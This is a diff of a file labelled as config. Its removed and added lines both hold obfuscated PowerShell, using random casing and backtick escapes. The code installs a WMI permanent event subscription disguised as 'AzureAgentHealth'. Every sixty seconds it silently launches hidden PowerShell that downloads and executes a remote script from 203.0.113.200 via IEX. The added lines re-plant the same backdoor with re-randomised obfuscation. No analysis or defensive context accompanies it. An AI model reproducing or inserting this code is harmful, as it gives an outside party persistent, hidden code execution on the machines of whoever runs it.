@@ -1,4 +1,4 @@
-# cOnFiG 1311 v1
-$filteR = seT-Wm`IiN`stAN`Ce -NaMeSPace ROOT\sUbScRiPtIoN -CLAss __eVENTfILter -aRgUmEnTs @{nAmE='AzureAgentHealth';EvEnTNAMeSPAcE='root\cimv2';QUeryLAngUAGe='WQL';queRy="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
-$COnsumEr = sET-`W`M`i`InSTaN`ce -nAmEsPaCe RooT\SubscrIpTIoN -ClAsS cOMmANdlIneeVentconSUMeR -argumEnts @{NAME='AzureAgentHealth';CoMmAnDlInEtEmPlAtE="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"}
-set-W`m`iINsTanCe -NameSPace ROoT\suBscrIPTION -cLass __FiLTeRtOconSumerBInding -ArguMENtS @{filTeR=$FiLtEr;conSUmER=$ConSumEr}
+# config 1311 v1
+$fIlTeR = Set-wm`iIN`sTAN`cE -NAmeSPAcE rOoT\sUBscriPTION -CLASs __evENTFiLTer -ArGuMEnTs @{NaMe='AzureAgentHealth';EvEnTnAmEsPaCe='root\cimv2';QUErYLANguaGE='WQL';qUERy="SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}
+$conSuMER = set-`w`M`i`INSTaN`Ce -NaMeSpAcE RooT\sUbsCrIption -cLaSs CoMmAnDlInEeVeNtCoNsUmEr -ARGumENtS @{nAmE='AzureAgentHealth';CommAndlineTEMpLate="powershell.exe -NoP -W Hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"}
+seT-w`m`IINSTAnce -nAmesPAcE rOoT\subSCripTIOn -cLaSs __fIlteRTOCONSuMerbiNdINg -aRgUmEnTs @{fIlTeR=$fIlter;CoNsUmEr=$consuMer}
